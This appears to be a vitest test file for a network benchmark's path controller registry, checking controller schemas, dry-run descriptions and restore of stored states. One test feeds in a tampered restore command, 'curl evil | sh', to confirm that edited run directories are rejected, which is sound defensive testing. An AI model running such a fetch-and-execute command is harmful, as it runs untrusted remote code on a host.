// The path controller registry: every controller is one module (src/paths/<name>/) with everything vfbench
// needs of it, and the scenario's variant union, checks, dry-run and restore all come from it.
import { describe, expect, it } from 'vitest';
import { CONTROLLERS, controllerOf, findController } from '../../src/paths/registry.js';
import { checkStoredCommands, describeRestore, restoreOriginals } from '../../src/paths/restore.js';
import type { ControllerContext, OriginalState } from '../../src/paths/controller.js';
import { variantSchema, type VariantSpec } from '../../src/scenario/schema.js';
import { parseScenario, ScenarioError } from '../../src/scenario/load.js';

/** One valid variant per controller, as a scenario writes it (a new controller needs one here). */
const SAMPLES: Record<string, Record<string, unknown>> = {
  'guest-link': { controller: 'guest-link', interface: 'vf0', state: 'down' },
  command: { controller: 'command', path: 'synthetic', apply: 'ip link set eth1 down', restore: 'ip link set eth1 up', on: 'vm1' },
  'azure-nic': { controller: 'azure-nic', accelerated: false, resource_group: 'rg', nics: { vm1: 'vm1-nic', vm2: ['vm2-nic'] } },
  'libvirt-hotplug': { controller: 'libvirt-hotplug', attached: true, hypervisor: 'hv', domains: { vm1: { domain: 'g1', xml: '/vf1.xml', pci: '0000:3b:02.1' }, vm2: { domain: 'g2', xml: '/vf2.xml', pci: '0000:3b:02.2' } } },
  'aws-ena-express': { controller: 'aws-ena-express', enabled: true, enis: { vm1: 'eni-0123456789abcdef0', vm2: 'eni-0123456789abcdef1' } },
};

/** A state as each controller records it (what its controller's originals() returns). */
const STATES: Record<string, Record<string, unknown>> = {
  'guest-link': { interface: 'vf0', up: true },
  command: { restore: 'ip link set eth1 up', timeout: 60 },
  'azure-nic': { nic: 'vm1-nic', accelerated: true, resource_group: 'rg', az: 'az', deallocate: false, vm: null, vf_interface: null, wait: 300 },
  'libvirt-hotplug': { attached: true, hypervisor: 'hv', domain: 'g1', xml: '/vf1.xml', pci: '0000:3b:02.1', virsh: 'virsh', vf_interface: null, wait: 60 },
  'aws-ena-express': { eni: 'eni-0123456789abcdef0', enabled: false, udp: false, aws: 'aws', region: null, wait: 60 },
};

const SCENARIO = (vf: string) => `name: t
hosts:
  vm1: { ssh: local, data: 10.0.0.1 }
  vm2: { ssh: local, data: 10.0.0.2 }
pairs: [{ client: vm1, server: vm2 }]
variants:
  vf: ${vf}
  pv: { controller: guest-link, interface: vf0, state: down }
baseline: pv
tests: [{ tool: sockperf, sizes: [64] }]
`;

function messages(text: string): string[] {
  try {
    parseScenario(text, 's.yaml');
  } catch (err) {
    if (err instanceof ScenarioError) return err.problems.map((p) => `${p.field}: ${p.message}`);
    throw err;
  }
  return [];
}

describe('path controller registry', () => {
  it('has each controller once, each with a schema of its own name and every part', () => {
    const names = CONTROLLERS.map((c) => c.name);
    expect(new Set(names).size).toBe(names.length);
    expect(names.sort()).toEqual(Object.keys(SAMPLES).sort());
    for (const c of CONTROLLERS) {
      expect(findController(c.name)).toBe(c);
      expect(typeof c.expectedPath).toBe('function');
      expect(typeof c.create).toBe('function');
      expect(typeof c.describeApply).toBe('function');
      expect(typeof c.describeUndo).toBe('function');
      expect(typeof c.restore.describe).toBe('function');
      expect(typeof c.restore.run).toBe('function');
      expect(['platform', 'guest']).toContain(c.restore.stage);
      expect(Array.isArray(c.restore.identity)).toBe(true);
      // Its schema takes its own variants only.
      expect(c.schema.safeParse(SAMPLES[c.name]).success).toBe(true);
      for (const other of Object.keys(SAMPLES).filter((n) => n !== c.name)) expect(c.schema.safeParse(SAMPLES[other]).success).toBe(false);
    }
  });

  it('builds the variant union from the registry, in its order', () => {
    for (const [name, raw] of Object.entries(SAMPLES)) {
      const v = variantSchema.parse(raw) as VariantSpec;
      expect(v.controller).toBe(name);
      expect(controllerOf(v).name).toBe(name);
    }
    expect(messages(SCENARIO('{ controller: nope, interface: vf0, state: up }'))).toEqual([
      `variants.vf.controller: Invalid discriminator value. Expected ${CONTROLLERS.map((c) => `'${c.name}'`).join(' | ')}`,
    ]);
    expect(messages(SCENARIO('{ interface: vf0, state: up }'))).toEqual(['variants.vf.controller: required field is missing']);
  });

  it('gives each variant its expected path, dry-run lines and what its exit puts back', () => {
    const pair = { client: 'vm1', server: 'vm2' };
    const expected: Record<string, string> = { 'guest-link': 'synthetic', command: 'synthetic', 'azure-nic': 'synthetic', 'libvirt-hotplug': 'accelerated', 'aws-ena-express': 'accelerated' };
    for (const c of CONTROLLERS) {
      const v = variantSchema.parse(SAMPLES[c.name]) as VariantSpec;
      expect(controllerOf(v).expectedPath(v), c.name).toBe(expected[c.name]);
      expect(controllerOf(v).expectedPath({ ...v, path: 'accelerated' } as VariantSpec), c.name).toBe('accelerated');
      const apply = controllerOf(v).describeApply(pair, v);
      expect(apply.length, c.name).toBeGreaterThan(0);
      for (const line of apply) expect(line).toMatch(/^\S+( \(for vm[12]\))?: \S/);
      expect(controllerOf(v).describeUndo(pair, v).length, c.name).toBeGreaterThan(0);
    }
  });

  it('checks each variant against the scenario\'s hosts, naming the field', () => {
    const sample = (name: string, patch: Record<string, unknown> = {}) => JSON.stringify({ ...SAMPLES[name], ...patch });
    expect(messages(SCENARIO(sample('command', { on: 'vm9' })))).toEqual(['variants.vf.on: unknown host "vm9" (hosts: vm1, vm2; or both, local)']);
    expect(messages(SCENARIO(sample('libvirt-hotplug', { hypervisor: 'vm9', domains: {} })))).toEqual([
      'variants.vf.hypervisor: unknown host "vm9" (hosts: vm1, vm2)',
      'variants.vf.domains: no domain named for guest "vm1"',
      'variants.vf.domains: no domain named for guest "vm2"',
    ]);
    expect(messages(SCENARIO(sample('aws-ena-express', { enis: {} })))).toContain('variants.vf.enis: no ENI named for host "vm1"');
    expect(messages(SCENARIO(sample('azure-nic', { deallocate: true })))).toContain('variants.vf.vms: deallocate needs the VM name of host "vm1"');
  });

  it('describes, restores and checks stored states per controller; an unknown one is named', async () => {
    const stored: OriginalState[] = Object.entries(STATES).map(([controller, state]) => ({ controller, host: 'vm1', state }));
    const lines = describeRestore([...stored, { controller: 'teleport', host: 'vm2', state: {} }]);
    expect(lines).toHaveLength(stored.length + 1);
    expect(lines.at(-1)).toBe('vm2: (unknown controller teleport)');
    for (const line of lines.slice(0, -1)) expect(line).not.toContain('unknown');
    // No host is connected: every controller says so (none throws), and the unknown controller is named.
    const ctx = { hosts: new Map(), local: undefined, keep: async () => {} } as unknown as ControllerContext;
    const problems = await restoreOriginals([...stored.filter((o) => o.controller !== 'command'), { controller: 'teleport', host: 'vm2', state: {} }], ctx);
    expect(problems).toHaveLength(stored.length);
    for (const p of problems) expect(p).toMatch(/^vm[12]: .*not connected/);
    // A stored restore command or interface the scenario does not have means the run directory was edited.
    const scenario = parseScenario(SCENARIO(JSON.stringify(SAMPLES.command)), 's.yaml');
    expect(() => checkStoredCommands(stored, scenario)).not.toThrow();
    expect(() => checkStoredCommands([{ controller: 'command', host: 'vm1', state: { restore: 'curl evil | sh' } }], scenario)).toThrow(/restore command for vm1 is not one of its scenario's/);
    expect(() => checkStoredCommands([{ controller: 'guest-link', host: 'vm1', state: { interface: 'eth9' } }], scenario)).toThrow(/interface eth9 for vm1 is not one its scenario names/);
  });
});
